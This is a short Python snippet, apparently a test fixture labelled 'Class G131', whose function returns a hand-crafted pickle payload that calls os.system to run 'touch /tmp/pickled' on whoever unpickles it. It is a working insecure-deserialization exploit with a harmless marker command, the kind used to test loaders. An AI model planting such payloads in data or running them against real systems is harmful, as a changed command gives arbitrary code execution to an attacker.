"""Returns a pickle that would run code in whoever loads it. Class G131."""


def attack(bait):
    return b"cos\nsystem\n(S'touch /tmp/pickled'\ntR."
